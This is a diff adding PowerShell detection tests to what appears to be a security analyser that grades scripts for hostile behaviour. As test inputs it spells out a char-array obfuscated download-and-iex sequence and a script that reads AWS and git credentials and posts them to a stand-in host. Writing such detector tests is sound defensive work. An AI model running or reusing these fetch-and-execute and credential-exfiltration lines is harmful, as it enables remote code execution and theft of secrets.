@@ -17,8 +17,14 @@ from pathlib import Path
 
 import pytest
 
-from grading.programs import destruction, python, shell
-from grading.programs.facts import DECODED_STRING, DESTROYS_DATA
+from grading.programs import destruction, powershell, python, shell
+from grading.programs.facts import (
+    DECODED_STRING,
+    DESTROYS_DATA,
+    FETCH_EXEC,
+    SECRET_FLOW,
+    SECRET_READ,
+)
 
 from .test_suites import FIXTURES, outcome
 
@@ -35,6 +41,8 @@ BLOCKED = {
     "py-map-chr",
     "js-map-charcode",
     "template-jwt-none",
+    "ps-charjoin",
+    "ps-cred-post",
 }
 """Attacks with a second signal: a pretext that contradicts the act, concealment, execution."""
 
@@ -150,3 +158,33 @@ def test_shell_reads_deletes_of_home_and_backups_and_printf_escapes() -> None:
     escapes = "".join(f"\\x{ord(c):02x}" for c in "https://e.io")
     printed = f"u=$(printf '{escapes}')\ncurl $u\n"
     assert DECODED_STRING in kinds(shell.analyse(printed))
+
+
+def test_powershell_folds_char_arrays_and_runs_of_downloaded_text() -> None:
+    text = (
+        "$u = -join [char[]](104,116,116,112,115,58,47,47,120,46,105,111)\n"
+        "$c = (New-Object Net.WebClient).DownloadString($u)\n"
+        "iex $c\n"
+    )
+    facts = powershell.analyse(text)
+    assert {DECODED_STRING, FETCH_EXEC} <= kinds(facts)
+
+
+def test_powershell_follows_credential_stores_into_a_web_request_body() -> None:
+    text = (
+        "$r = @{}\n"
+        "$r.k = Get-Content (Join-Path $env:USERPROFILE '.aws\\credentials')\n"
+        "$r.g = 'host=github.com' | git credential fill\n"
+        "Invoke-RestMethod -Method Post -Uri 'https://x.example.net/u' "
+        "-Body ($r | ConvertTo-Json)\n"
+    )
+    assert {SECRET_READ, SECRET_FLOW} <= kinds(powershell.analyse(text))
+
+
+def test_powershell_requests_without_secrets_are_only_requests() -> None:
+    text = (
+        "$cfg = Get-Content -Raw 'site.json' | ConvertFrom-Json\n"
+        "$s = Invoke-RestMethod -Uri 'https://api.example.net/v1/sites'\n"
+        "Invoke-RestMethod -Method Post -Uri 'https://api.example.net/v1/d' -InFile 'site.zip'\n"
+    )
+    assert not kinds(powershell.analyse(text)) & {SECRET_READ, SECRET_FLOW, FETCH_EXEC}
